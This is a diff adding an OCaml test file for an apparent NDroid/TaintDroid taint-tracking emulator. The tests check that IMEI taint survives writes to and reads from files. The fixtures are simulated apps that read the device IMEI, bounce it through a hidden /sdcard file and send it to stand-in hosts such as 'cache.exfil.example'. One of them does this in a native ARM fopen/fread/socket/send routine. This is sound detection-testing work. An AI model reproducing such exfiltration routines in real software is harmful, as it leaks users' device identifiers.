@@ -1,0 +1,163 @@
+(* File-level taint (xattr): TaintDroid persists tags across file storage —
+   the paper's setup runs "XATTR support for the YAFFS2 filesystem" for
+   this.  Flows that bounce through a file must keep their tags in both the
+   Java world (framework streams) and the native world (fwrite/fread). *)
+
+module Device = Ndroid_runtime.Device
+module Machine = Ndroid_emulator.Machine
+module Layout = Ndroid_emulator.Layout
+module Vm = Ndroid_dalvik.Vm
+module Interp = Ndroid_dalvik.Interp
+module Dvalue = Ndroid_dalvik.Dvalue
+module J = Ndroid_dalvik.Jbuilder
+module B = Ndroid_dalvik.Bytecode
+module Asm = Ndroid_arm.Asm
+module Insn = Ndroid_arm.Insn
+module Taint = Ndroid_taint.Taint
+module A = Ndroid_android
+module H = Ndroid_apps.Harness
+
+let check_taint = Alcotest.testable Taint.pp Taint.equal
+let mov rd rm = Asm.I (Insn.mov rd (Insn.Reg rm))
+let movi rd v = Asm.I (Insn.mov rd (Insn.Imm v))
+
+let test_fs_xattr_primitives () =
+  let fs = A.Filesystem.create () in
+  A.Filesystem.set_contents fs "/f" "data";
+  Alcotest.check check_taint "default clear" Taint.clear
+    (A.Filesystem.xattr_taint fs "/f");
+  A.Filesystem.add_xattr_taint fs "/f" Taint.imei;
+  A.Filesystem.add_xattr_taint fs "/f" Taint.sms;
+  Alcotest.check check_taint "accumulates" (Taint.union Taint.imei Taint.sms)
+    (A.Filesystem.xattr_taint fs "/f");
+  A.Filesystem.set_xattr_taint fs "/f" Taint.clear;
+  Alcotest.check check_taint "clearable" Taint.clear
+    (A.Filesystem.xattr_taint fs "/f")
+
+let test_java_file_bounce_taintdroid () =
+  (* write IMEI to a file, read it back, send it: the framework streams
+     carry the tag through the file, so even plain TaintDroid catches it *)
+  let cls = "LBounce;" in
+  let app : H.app =
+    { H.app_name = "java-file-bounce";
+      app_case = "file taint";
+      description = "IMEI -> file -> read back -> send";
+      classes =
+        [ J.class_ ~name:cls
+            [ J.method_ ~cls ~name:"main" ~shorty:"V"
+                [ J.I (B.Invoke (B.Static,
+                                 { B.m_class = "Landroid/telephony/TelephonyManager;";
+                                   m_name = "getDeviceId" }, []));
+                  J.I (B.Move_result 0);
+                  J.I (B.Const_string (1, "/sdcard/.cache"));
+                  J.I (B.Invoke (B.Static,
+                                 { B.m_class = "Ljava/io/FileOutputStream;";
+                                   m_name = "writeFile" }, [ 1; 0 ]));
+                  J.I (B.Invoke (B.Static,
+                                 { B.m_class = "Ljava/io/FileInputStream;";
+                                   m_name = "readFile" }, [ 1 ]));
+                  J.I (B.Move_result 2);
+                  J.I (B.Const_string (3, "bounce.example"));
+                  J.I (B.Invoke (B.Static,
+                                 { B.m_class = "Ljava/net/Socket;"; m_name = "send" },
+                                 [ 3; 2 ]));
+                  J.I B.Return_void ] ] ];
+      build_libs = (fun _ -> []);
+      entry = (cls, "main");
+      expected_sink = "Socket.send" }
+  in
+  Alcotest.(check bool) "TaintDroid catches the file bounce" true
+    (H.run H.Taintdroid_only app).H.detected;
+  Alcotest.(check bool) "vanilla does not" false (H.run H.Vanilla app).H.detected
+
+let native_reader_app =
+  (* Java writes the IMEI to a file; native code freads it and sends it *)
+  let cls = "LNativeBounce;" in
+  { H.app_name = "native-file-bounce";
+    app_case = "file taint";
+    description = "IMEI -> Java file write -> native fread -> send";
+    classes =
+      [ J.class_ ~name:cls
+          [ J.native_method ~cls ~name:"slurpAndSend" ~shorty:"V" "slurpAndSend";
+            J.method_ ~cls ~name:"main" ~shorty:"V"
+              [ J.I (B.Invoke (B.Static,
+                               { B.m_class = "Landroid/telephony/TelephonyManager;";
+                                 m_name = "getDeviceId" }, []));
+                J.I (B.Move_result 0);
+                J.I (B.Const_string (1, "/sdcard/.cache2"));
+                J.I (B.Invoke (B.Static,
+                               { B.m_class = "Ljava/io/FileOutputStream;";
+                                 m_name = "writeFile" }, [ 1; 0 ]));
+                J.I (B.Invoke (B.Static, { B.m_class = cls;
+                                           m_name = "slurpAndSend" }, []));
+                J.I B.Return_void ] ] ];
+    build_libs =
+      (fun extern ->
+        [ ( "nbounce",
+            Asm.assemble ~extern ~base:Layout.app_lib_base
+              ([ Asm.Label "slurpAndSend";
+                Asm.I (Insn.push [ Insn.r4; Insn.r5; Insn.lr ]);
+                (* f = fopen("/sdcard/.cache2", "r") *)
+                Asm.La (0, "path");
+                Asm.La (1, "mode");
+                Asm.Call "fopen";
+                Asm.I (Insn.mov 4 (Insn.Reg 0));
+                (* n = fread(buf, 1, 64, f) *)
+                Asm.La (0, "buf");
+                movi 1 1;
+                movi 2 64;
+                mov 3 4;
+                Asm.Call "fread";
+                Asm.I (Insn.mov 5 (Insn.Reg 0)) (* bytes read *);
+                mov 0 4;
+                Asm.Call "fclose";
+                (* send(socket(), buf, n) *)
+                Asm.Call "socket";
+                Asm.I (Insn.mov 4 (Insn.Reg 0));
+                Asm.La (1, "dest");
+                Asm.Call "connect";
+                mov 0 4;
+                Asm.La (1, "buf");
+                mov 2 5;
+                Asm.Call "send";
+                movi 0 0;
+                Asm.I (Insn.pop [ Insn.r4; Insn.r5; Insn.pc ]);
+                Asm.Align4;
+                Asm.Label "path";
+                Asm.Asciz "/sdcard/.cache2";
+                Asm.Label "mode";
+                Asm.Asciz "r";
+                Asm.Label "dest";
+                Asm.Asciz "cache.exfil.example";
+                Asm.Label "buf" ]
+              @ List.init 20 (fun _ -> Asm.Word 0)) ) ]);
+    entry = (cls, "main");
+    expected_sink = "send" }
+
+let test_native_file_bounce_ndroid () =
+  let o = H.run H.Ndroid_full native_reader_app in
+  Alcotest.(check bool) "NDroid catches via xattr + fread" true o.H.detected;
+  (match o.H.leaks with
+   | leak :: _ ->
+     Alcotest.check check_taint "imei tag" Taint.imei leak.A.Sink_monitor.taint;
+     Alcotest.(check string) "payload is the IMEI" "357242043237517"
+       leak.A.Sink_monitor.data
+   | [] -> Alcotest.fail "no leak")
+
+let test_clean_files_stay_clean () =
+  (* the CF-Bench disk workloads must not acquire spurious xattr tags *)
+  let device = H.boot Ndroid_apps.Cfbench.app in
+  Ndroid_apps.Cfbench.prepare device;
+  ignore (Ndroid_core.Ndroid.attach device);
+  (List.find (fun w -> w.Ndroid_apps.Cfbench.w_name = "Native Disk Write")
+     Ndroid_apps.Cfbench.workloads).Ndroid_apps.Cfbench.w_run device ~iterations:4;
+  Alcotest.check check_taint "clean write leaves no xattr" Taint.clear
+    (A.Filesystem.xattr_taint (Device.fs device) "/sdcard/cfbench_out.dat")
+
+let suite =
+  [ Alcotest.test_case "xattr primitives" `Quick test_fs_xattr_primitives;
+    Alcotest.test_case "Java file bounce (TaintDroid)" `Quick
+      test_java_file_bounce_taintdroid;
+    Alcotest.test_case "native file bounce (NDroid xattr+fread)" `Quick
+      test_native_file_bounce_ndroid;
+    Alcotest.test_case "clean files stay clean" `Quick test_clean_files_stay_clean ]
